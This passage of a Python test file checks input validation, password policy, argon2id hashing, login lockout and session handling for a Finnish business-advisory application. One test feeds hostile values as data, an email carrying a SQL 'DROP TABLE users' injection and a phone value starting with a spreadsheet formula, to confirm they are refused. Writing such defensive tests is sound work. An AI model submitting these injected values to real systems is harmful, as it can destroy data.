    w, s = world, session
    key = "error.text.too_long"
    refused_whole(s, lambda: companies.create_company(s, w.advisor, _company_named(w, HUGE)),
                  key, "name")  # fmt: skip
    refused_whole(
        s,
        lambda: companies.update_company(s, w.advisor, w.home.id, _company_named(w, HUGE)),
        key,
        "name",
    )
    refused_whole(
        s,
        lambda: contact_persons.add_contact_person(
            s, w.advisor, w.home.id, ContactPersonInput(HUGE, "Sukunimi")
        ),
        key,
        "first_name",
    )
    refused_whole(
        s,
        lambda: contact_persons.add_contact_person(
            s, w.advisor, w.home.id, ContactPersonInput("Etunimi", "Sukunimi", title=HUGE)
        ),
        key,
        "title",
    )
    refused_whole(
        s, lambda: contacts.log_contact(s, w.advisor, _log(w, summary=HUGE), today=TODAY),
        key, "summary",
    )  # fmt: skip
    refused_whole(
        s,
        lambda: contacts.log_contact(
            s,
            w.advisor,
            _log(w, needs=(NeedInput(w.category.id, Severity.RED, HUGE),)),
            today=TODAY,
        ),
        key,
        "need_1",
    )
    refused_whole(
        s,
        lambda: contacts.log_contact(
            s, w.advisor, _log(w, follow_up=FollowUpInput(HUGE)), today=TODAY
        ),
        key,
        "follow_up",
    )
    refused_whole(
        s,
        lambda: needs.change_need_status(
            s, w.advisor, w.home_need.id, status=NeedStatus.MET, today=TODAY, note=HUGE
        ),
        key,
        "resolution_note",
    )


def _project_edit(w: W, **extra: Any) -> ProjectInput:
    values: dict[str, Any] = {
        "name": "Hanke uudella nimellä",
        "kind": ProjectKind.THEMATIC_NETWORK,
        "starts_on": w.own_project.starts_on,
        "ends_on": w.own_project.ends_on,
        "town_ids": (w.forssa.id,),
        "category_ids": (w.category.id,),
        "manager_id": w.pm_row.id,
    }
    values.update(extra)
    return ProjectInput(**values)


def test_a_refused_project_name_changes_nothing(session: Session, world: W) -> None:
    pm = world.users[Role.PROJECT_MANAGER]
    refused_whole(
        session,
        lambda: projects.update_project(session, pm, world.own_project.id,
                                        _project_edit(world, name=HUGE)),
        "error.text.too_long",
        "name",
    )  # fmt: skip


def test_a_refused_project_description_changes_nothing(session: Session, world: W) -> None:
    """Every field is checked before any is changed: a refused edit leaves the project as it was,
    even in a session that goes on to flush."""
    pm = world.users[Role.PROJECT_MANAGER]
    refused_whole(
        session,
        lambda: projects.update_project(session, pm, world.own_project.id,
                                        _project_edit(world, description=HUGE)),
        "error.text.too_long",
        "description",
    )  # fmt: skip


@pytest.mark.parametrize("text", list(CONTROL.values()), ids=list(CONTROL))
def test_control_characters_are_refused_and_nothing_is_written(
    session: Session, world: W, text: str
) -> None:
    w, s = world, session
    key = "error.text.control_characters"
    refused_whole(s, lambda: companies.create_company(s, w.advisor, _company_named(w, text)),
                  key, "name")  # fmt: skip
    refused_whole(
        s,
        lambda: contact_persons.add_contact_person(
            s, w.advisor, w.home.id, ContactPersonInput("Etu", text)
        ),
        key,
        "last_name",
    )
    refused_whole(
        s, lambda: contacts.log_contact(s, w.advisor, _log(w, summary=text), today=TODAY),
        key, "summary",
    )  # fmt: skip
    refused_whole(
        s,
        lambda: contacts.log_contact(
            s,
            w.advisor,
            _log(w, needs=(NeedInput(w.category.id, Severity.RED, text),)),
            today=TODAY,
        ),
        key,
        "need_1",
    )
    refused_whole(
        s,
        lambda: users.create_user(
            s,
            w.admin,
            UserInput("uusi", text, "uusi@example.fi", Role.LEADERSHIP),
            password=STRONG_PASSWORD,
        ),
        key,
        "full_name",
    )


def test_a_hostile_email_or_phone_is_refused(session: Session, world: W) -> None:
    w, s = world, session
    refused_whole(
        s,
        lambda: contact_persons.add_contact_person(
            s, w.advisor, w.home.id,
            ContactPersonInput("Etu", "Suku", email="x@y.fi'; DROP TABLE users; --"),
        ),
        "error.email.invalid",
        "email",
    )  # fmt: skip
    refused_whole(
        s,
        lambda: contact_persons.add_contact_person(
            s, w.advisor, w.home.id, ContactPersonInput("Etu", "Suku", phone="=1+1 040 123")
        ),
        "error.phone.invalid",
        "phone",
    )


# --- Passwords -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("password", "key"),
    [
        ("", "error.password.too_short"),
        ("Lyhyt-1", "error.password.too_short"),
        ("x" * (MIN_LENGTH - 2) + "Ä1", "error.password.common"),  # 12 long, few letters
        ("Ab1-" * 2 + "Ab1", "error.password.too_short"),  # 11 characters
        ("Pitkä-" * 34, "error.password.too_long"),  # 204 characters
        ("salasana123!", "error.password.common"),
        ("SALASANA2026", "error.password.common"),
        ("Password1234", "error.password.common"),
        ("qwerty123456", "error.password.common"),
        ("Jyväskylä123", "error.password.common"),
        ("seututoimisto", "error.password.common"),
        ("aaaaaaaaaaaaaaa", "error.password.common"),
        ("abababababab", "error.password.common"),
        ("uusi.kayttaja-2026!", "error.password.username"),
        ("UUSI.KAYTTAJA on paras", "error.password.username"),
    ],
)
def test_password_policy_refuses(password: str, key: str) -> None:
    with pytest.raises(ValidationError) as caught:
        check_password(password, username="uusi.kayttaja")
    assert caught.value.key == key
    assert caught.value.field == "password"
    assert translate(key, "fi") != key
    assert translate(key, "en") != key


@pytest.mark.parametrize(
    "password",
    [STRONG_PASSWORD, "kolme pientä karhua metsässä", "x" * 8 + "Ä1-z", "Ä" * 5 + "ö1-?" * 2,
     "p" * (MAX_LENGTH - 4) + "Ä1-?"],
)  # fmt: skip
def test_password_policy_accepts(password: str) -> None:
    check_password(password, username="uusi.kayttaja")


def test_a_weak_password_creates_no_user_and_resets_nothing(session: Session, world: W) -> None:
    data = UserInput("uusi.kayttaja", "Uusi Käyttäjä", "uusi@example.fi", Role.LEADERSHIP)
    before = table_counts(session)
    with pytest.raises(ValidationError) as caught:
        users.create_user(session, world.admin, data, password="salasana123")
    assert caught.value.key == "error.password.too_short"
    with pytest.raises(ValidationError) as caught:
        users.create_user(session, world.admin, data, password="salasana1234")
    assert caught.value.key == "error.password.common"
    assert table_counts(session) == before

    target = world.other_advisor_row
    old_hash = target.password_hash
    token = sessions.start_session(session, make.signed_in(session, target))
    before = table_counts(session)
    with pytest.raises(ValidationError):
        users.reset_password(session, world.admin, target.id, password="qwerty123456")
    session.expire_all()
    assert session.get(User, target.id).password_hash == old_hash
    assert sessions.resume_session(session, token) is not None
    assert table_counts(session) == before


def test_passwords_are_argon2id_hashes_with_at_least_owasp_parameters(
    session: Session, world: W
) -> None:
    account = users.create_user(
        session,
        world.admin,
        UserInput("uusi.kayttaja", "Uusi Käyttäjä", "uusi@example.fi", Role.LEADERSHIP),
        password=STRONG_PASSWORD,
    )
    session.expire_all()
    stored = session.get(User, account.id).password_hash
    match = re.fullmatch(r"\$argon2id\$v=19\$m=(\d+),t=(\d+),p=(\d+)\$[^$]+\$[^$]+", stored)
    assert match, stored
    memory, time_cost, parallelism = map(int, match.groups())
    # OWASP's minimum for argon2id is 19 MiB with two passes; RFC 9106's profile is more.
    assert memory >= 19 * 1024
    assert time_cost >= 2
    assert (memory, time_cost, parallelism) == (
        RFC_9106_LOW_MEMORY.memory_cost,
        RFC_9106_LOW_MEMORY.time_cost,
        RFC_9106_LOW_MEMORY.parallelism,
    )
    assert STRONG_PASSWORD not in stored
    assert verify_password(stored, STRONG_PASSWORD)
    assert not verify_password(stored, STRONG_PASSWORD.upper())
    assert not verify_password("not a hash", STRONG_PASSWORD)
    assert PasswordHasher().verify(stored, STRONG_PASSWORD)
    # The new user signs in with it.
    assert authenticate(session, username="uusi.kayttaja", password=STRONG_PASSWORD).id == (
        account.id
    )


# --- Signing in: the lock --------------------------------------------------------------------

NOW = dt.datetime(2026, 11, 22, 9, 0, tzinfo=dt.UTC)


def attempt(session: Session, username: str, password: str, at: dt.datetime) -> CurrentUser:
    try:
        return authenticate(session, username=username, password=password, now=at)
    finally:
        session.expire_all()


def test_five_failures_lock_the_account_and_an_admin_reset_opens_it(
    session: Session, world: W
) -> None:
    name = world.other_advisor_row.username
    for second in range(MAX_FAILED_LOGINS - 1):
        with pytest.raises(InvalidCredentials):
            attempt(session, name, "väärä salasana", NOW + dt.timedelta(seconds=second))
    with pytest.raises(AccountLocked) as caught:
        attempt(session, name, "väärä salasana", NOW + dt.timedelta(seconds=5))
    assert caught.value.params == {"minutes": 5}
    assert translate("error.login.locked", "fi", minutes=5) != "error.login.locked"
    with pytest.raises(AccountLocked):
        attempt(session, name, make.PASSWORD, NOW + dt.timedelta(minutes=1))
    failures = session.scalar(
        select(func.count()).where(
            AuditEvent.action == AuditAction.LOGIN_FAILED,
            AuditEvent.entity_id == world.other_advisor_row.id,
        )
    )
    assert failures == MAX_FAILED_LOGINS

    # An administrator's reset opens the lock at once.
    users.reset_password(
        session, world.admin, world.other_advisor_row.id, password=OTHER_STRONG_PASSWORD
    )
    signed = attempt(session, name, OTHER_STRONG_PASSWORD, NOW + dt.timedelta(minutes=2))
    assert signed.id == world.other_advisor_row.id
    with pytest.raises(InvalidCredentials):
        attempt(session, name, make.PASSWORD, NOW + dt.timedelta(minutes=3))


def test_the_lock_passes_after_its_time(session: Session, world: W) -> None:
    name = world.pm_row.username
    for second in range(MAX_FAILED_LOGINS):
        with pytest.raises((InvalidCredentials, AccountLocked)):
            attempt(session, name, "arvaus", NOW + dt.timedelta(seconds=second))
    with pytest.raises(AccountLocked):
        attempt(session, name, make.PASSWORD, NOW + LOCK_DURATION)
    assert attempt(session, name, make.PASSWORD, NOW + LOCK_DURATION + dt.timedelta(seconds=5))


def test_unknown_and_disabled_accounts_are_refused_alike_and_never_lock(
    session: Session, world: W
) -> None:
    users.set_user_active(session, world.admin, world.pm_row.id, active=False)
    for number in range(MAX_FAILED_LOGINS * 2):
        at = NOW + dt.timedelta(seconds=number)
        with pytest.raises(InvalidCredentials) as unknown:
            attempt(session, "ei-ole-olemassa", "arvaus", at)
        with pytest.raises(InvalidCredentials) as disabled:
            attempt(session, world.pm_row.username, make.PASSWORD, at)
        assert unknown.value.key == disabled.value.key == "error.login.invalid"


# --- Sessions --------------------------------------------------------------------------------


def real_now() -> dt.datetime:
    return dt.datetime.now(dt.UTC)


def test_a_session_starts_resumes_and_ends(session: Session, world: W) -> None:
    first = sessions.start_session(session, world.advisor)
    second = sessions.start_session(session, world.advisor)
    assert first != second
    assert len(first) >= 43  # 32 random bytes
    stored = set(session.scalars(select(UserSession.token_hash)))
    assert stored == {hashlib.sha256(t.encode()).hexdigest() for t in (first, second)}
    assert first not in stored  # only the hash is kept

    resumed = sessions.resume_session(session, first)
    assert resumed == world.advisor
    assert sessions.resume_session(session, "") is None
    assert sessions.resume_session(session, first + "x") is None
    assert sessions.resume_session(session, "arvattu-tunniste") is None

    sessions.end_session(session, first)
    assert sessions.resume_session(session, first) is None
    assert sessions.resume_session(session, second) == world.advisor  # the other browser

    sessions.end_user_sessions(session, world.advisor.id)
    assert sessions.resume_session(session, second) is None


def test_sessions_expire_after_the_idle_setting_and_touching_moves_the_clock(
    session: Session, world: W
) -> None:
    settings.update_settings(session, world.admin, {"session.idle_minutes": 30})
    assert sessions.idle_minutes(session) == 30
    start = real_now()
    token = sessions.start_session(session, world.advisor)
    assert sessions.resume_session(session, token, now=start + dt.timedelta(minutes=29))
    assert sessions.resume_session(session, token, now=start + dt.timedelta(minutes=31)) is None

    # Used at 29 minutes: idle from then on.
    sessions.touch_session(session, token, now=start + dt.timedelta(minutes=29))
    assert sessions.resume_session(session, token, now=start + dt.timedelta(minutes=58))
    assert sessions.resume_session(session, token, now=start + dt.timedelta(minutes=60)) is None

    # A touch within a minute of the last one does not write.
    sessions.touch_session(session, token, now=start + dt.timedelta(minutes=29, seconds=30))
    session.expire_all()
    seen = session.scalar(select(UserSession.last_seen_at))
    seen = seen if seen.tzinfo else seen.replace(tzinfo=dt.UTC)
    assert seen == start + dt.timedelta(minutes=29)

    # An ended session is not revived by touching it.
    sessions.end_session(session, token)
    sessions.touch_session(session, token, now=start + dt.timedelta(minutes=40))
    assert sessions.resume_session(session, token, now=start + dt.timedelta(minutes=41)) is None


def test_a_longer_idle_setting_keeps_sessions_longer(session: Session, world: W) -> None:
    start = real_now()
    token = sessions.start_session(session, world.advisor)
    assert sessions.resume_session(session, token, now=start + dt.timedelta(minutes=59))
    assert sessions.resume_session(session, token, now=start + dt.timedelta(minutes=61)) is None
    settings.update_settings(session, world.admin, {"session.idle_minutes": 8 * 60})
    assert sessions.resume_session(session, token, now=start + dt.timedelta(hours=7))


def test_disabling_a_user_ends_their_sessions_for_good(session: Session, world: W) -> None:
    target = make.signed_in(session, world.other_advisor_row)
    tokens = [sessions.start_session(session, target) for _ in range(2)]
    mine = sessions.start_session(session, world.advisor)
    users.set_user_active(session, world.admin, target.id, active=False)
    assert [sessions.resume_session(session, token) for token in tokens] == [None, None]
    assert sessions.resume_session(session, mine) == world.advisor
    # Enabling the account again does not bring the old sign-ins back.
    users.set_user_active(session, world.admin, target.id, active=True)
    assert [sessions.resume_session(session, token) for token in tokens] == [None, None]
    assert sessions.resume_session(session, sessions.start_session(session, target)) == target


def test_a_disabled_user_cannot_resume_even_a_session_left_open(session: Session, world: W) -> None:
    target = make.signed_in(session, world.other_advisor_row)
    token = sessions.start_session(session, target)
    world.other_advisor_row.is_active = False  # e.g. disabled straight in the database
    session.flush()
    assert sessions.resume_session(session, token) is None


def test_a_password_reset_ends_the_users_sessions(session: Session, world: W) -> None:
    target = make.signed_in(session, world.other_advisor_row)
    token = sessions.start_session(session, target)
    users.reset_password(session, world.admin, target.id, password=OTHER_STRONG_PASSWORD)
    assert sessions.resume_session(session, token) is None


def test_administrators_may_not_lock_themselves_out(session: Session, world: W) -> None:
    with pytest.raises(ValidationError) as caught:
        users.set_user_active(session, world.admin, world.admin.id, active=False)
    assert caught.value.key == "error.user.disable_self"
    with pytest.raises(ValidationError) as caught:
        users.update_user(
            session,
            world.admin,
            world.admin.id,
            UserInput(world.admin_row.username, "Frans", world.admin_row.email, Role.ADVISOR,
                      town_ids=(world.forssa.id,)),
        )  # fmt: skip
    assert caught.value.key == "error.user.own_role"
